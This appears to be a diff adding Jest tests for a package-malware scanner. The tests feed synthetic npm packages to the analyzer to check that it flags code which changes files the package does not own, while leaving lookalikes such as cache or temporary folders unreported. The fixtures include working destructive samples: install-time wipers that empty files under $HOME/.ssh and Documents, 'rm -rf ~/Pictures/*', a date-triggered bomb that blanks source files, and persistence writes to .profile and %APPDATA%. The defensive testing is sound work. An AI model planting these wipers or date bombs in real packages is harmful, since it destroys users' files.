@@ -1,0 +1,189 @@
+/**
+ * Files a package does not own, changed without anyone calling it (js.foreign-file-change,
+ * script.foreign-file-change): the act shared by wipers, planted start-up entries, worms and
+ * patched applications, reported whatever the change is for. Each case has a look-alike that
+ * must stay quiet: caches, temporary and own folders, a tool's generated folder, the package's
+ * own files reached with `..`, and the same code in a function nobody calls.
+ */
+import type { AnalysisResult } from '../../../src/engine/types';
+import { analyzeSource } from './helpers';
+
+const pkg = (extra: Record<string, unknown> = {}) =>
+  JSON.stringify({ name: 'tidy-paths', version: '1.0.0', main: 'index.js', ...extra });
+const postinstall = (cmd: string) => pkg({ scripts: { postinstall: cmd } });
+
+function foreign(r: AnalysisResult): { rule: string; type: string; confidence: number; message: string }[] {
+  return r.evidence
+    .filter((f) => /foreign-file-change$/.test(f.rule) && 'threat_type' in f)
+    .map((f) => ({
+      rule: f.rule,
+      type: (f as { threat_type: string }).threat_type,
+      confidence: f.confidence,
+      message: f.message,
+    }));
+}
+
+describe('code that runs when the package is loaded', () => {
+  const truncate = `const fs = require('fs'), path = require('path');
+function walk(dir, visit) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    e.isDirectory() ? walk(p, visit) : visit(p);
+  }
+}`;
+  it("truncating the project's files from the entry's top level, through a helper and a callback", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `${truncate}
+walk(process.cwd(), (f) => fs.truncateSync(f, 0));
+module.exports = (x) => x;`,
+    });
+    const hit = foreign(r)[0];
+    expect(hit).toMatchObject({ rule: 'js.foreign-file-change', type: 'malicious_code', confidence: 0.6 });
+    expect(hit!.message).toMatch(/as soon as it is loaded/);
+    expect(r.risk_level).not.toBe('clean');
+  });
+  it('the same walk in an exported function nobody calls yet (a codemod) is not reported', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `${truncate}
+module.exports = function clear(root) { walk(root || process.cwd(), (f) => fs.truncateSync(f, 0)); };`,
+    });
+    expect(foreign(r)).toEqual([]);
+  });
+  it('a module the entry requires, writing into the packages beside it on load', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `require('./lib/boot');\nmodule.exports = {};`,
+      'lib/boot.js': `const fs = require('fs'), path = require('path');
+const nm = path.join(__dirname, '..', '..');
+for (const name of fs.readdirSync(nm)) fs.appendFileSync(path.join(nm, name, 'index.js'), '\\n;0;');`,
+    });
+    expect(foreign(r).map((f) => f.rule)).toContain('js.foreign-file-change');
+  });
+  it("a file in lib/ writing into the package's own dist/ with '..' is its own business", () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'node lib/build.js' } }),
+      'lib/build.js': `const fs = require('fs'), path = require('path');
+fs.writeFileSync(path.join(__dirname, '..', 'dist', 'index.js'), 'module.exports = 1;');`,
+    });
+    expect(foreign(r)).toEqual([]);
+  });
+});
+
+describe('install-time code', () => {
+  it("writing a file in the user's home", () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node setup.js'),
+      'setup.js': `const os = require('os'), fs = require('fs'), path = require('path');
+const where = [os.homedir(), '.config', 'gh', 'hosts.yml'];
+fs.writeFileSync(path.join(...where), 'github.com:\\n  git_protocol: https\\n');`,
+    });
+    expect(foreign(r)[0]).toMatchObject({
+      rule: 'js.foreign-file-change',
+      type: 'install_script_injection',
+      confidence: 0.75,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+  it('caches, the temporary folder, its own settings folder and a generated folder under node_modules are not reported', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node setup.js'),
+      'setup.js': `const os = require('os'), fs = require('fs'), path = require('path');
+fs.writeFileSync(path.join(os.homedir(), '.cache', 'tidy-paths', 'bin'), 'x');
+fs.writeFileSync(path.join(os.tmpdir(), 'tidy.log'), 'x');
+fs.writeFileSync(path.join(os.homedir(), '.tidy-paths', 'config.json'), '{}');
+fs.writeFileSync(path.join(os.homedir(), '.config', 'tidy-paths', 'state.json'), '{}');
+fs.writeFileSync(path.join(__dirname, '..', '.prisma', 'client', 'index.js'), '');
+fs.rmSync(path.join(__dirname, 'build'), { recursive: true, force: true });`,
+    });
+    expect(foreign(r)).toEqual([]);
+  });
+  it('a command run from code that deletes a folder of the home', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('node setup.js'),
+      'setup.js': `const { execSync } = require('child_process');
+const steps = ['echo ok', 'rm -rf ~/Pictures/*'];
+steps.forEach((s) => execSync(s));`,
+    });
+    expect(foreign(r).some((f) => /runs a command that deletes or moves ~\/Pictures/.test(f.message))).toBe(
+      true,
+    );
+  });
+});
+
+describe('install-time scripts', () => {
+  it.each([
+    [
+      'sh',
+      'setup.sh',
+      'sh setup.sh',
+      '#!/bin/sh\nT="$HOME/.profile"\nprintf "%s\\n" "export PATH=/opt/x:$PATH" >> "$T"\n',
+    ],
+    [
+      'batch',
+      'setup.cmd',
+      'setup.cmd',
+      '@echo off\r\ncopy /y helper.exe "%APPDATA%\\Microsoft\\helper.exe" >nul\r\n',
+    ],
+    [
+      'PowerShell',
+      'setup.ps1',
+      'powershell -File setup.ps1',
+      'Set-Content -Path "$env:USERPROFILE\\.gitconfig" -Value "[core]"\n',
+    ],
+    [
+      'Python',
+      'setup.py',
+      'python3 setup.py',
+      'import os\nhome = os.path.expanduser("~")\nwith open(os.path.join(home, ".netrc"), "a") as f:\n    f.write("machine x")\n',
+    ],
+  ])('a %s step that changes a file under home', (_dialect, file, cmd, text) => {
+    const r = analyzeSource({ 'package.json': postinstall(cmd), [file]: text });
+    expect(foreign(r).map((f) => f.rule)).toContain('script.foreign-file-change');
+    expect(r.risk_level).toBe('critical');
+  });
+  it('output thrown away, caches cleared and files written inside the package are not reported', () => {
+    const r = analyzeSource({
+      'package.json': postinstall('sh setup.sh'),
+      'setup.sh':
+        '#!/bin/sh\nnode build.js > build.log 2>/dev/null\nrm -rf "$HOME/.cache/tidy-paths"\ncp bin/tool dist/tool\necho done >&2\n',
+    });
+    expect(foreign(r)).toEqual([]);
+  });
+});
+
+describe('an attacker rewrite of the date-bomb and home-wipe samples', () => {
+  it('a bash array of home folders walked by find, each file emptied by an inline shell', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { install: 'bash ./tools/post.sh' } }),
+      'tools/post.sh':
+        '#!/usr/bin/env bash\nTARGETS=("$HOME/.ssh" "$HOME/Documents")\nfor t in "${TARGETS[@]}"; do\n  find "$t" -type f -exec sh -c \': > "$1"\' _ {} \\;\ndone\n',
+    });
+    expect(foreign(r).map((f) => f.message)).toEqual([
+      expect.stringMatching(/writes \$HOME\/\.ssh \$HOME\/Documents, which the package does not own/),
+    ]);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('a date trigger in a helper module the entry arms with a settings object, through fs/promises', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const sched = require('./lib/sched');
+sched.arm({ after: Date.UTC(2026, 2, 1), exts: ['.js', '.ts'] });
+module.exports = { fmt: (d) => d.toISOString() };`,
+      'lib/sched.js': `const { readdir, writeFile } = require('node:fs/promises');
+const { join, extname } = require('node:path');
+async function sweep(dir, cfg) {
+  const ents = await readdir(dir, { withFileTypes: true });
+  for (const e of ents) {
+    const p = join(dir, e.name);
+    if (e.isDirectory()) await sweep(p, cfg);
+    else if (cfg.exts.includes(extname(p))) await writeFile(p, '');
+  }
+}
+exports.arm = (cfg) => { if (Date.now() > cfg.after) sweep(process.cwd(), cfg).catch(() => {}); };`,
+    });
+    expect(foreign(r)[0]).toMatchObject({ rule: 'js.foreign-file-change', type: 'malicious_code' });
+    expect(r.risk_level).toBe('critical');
+  });
+});
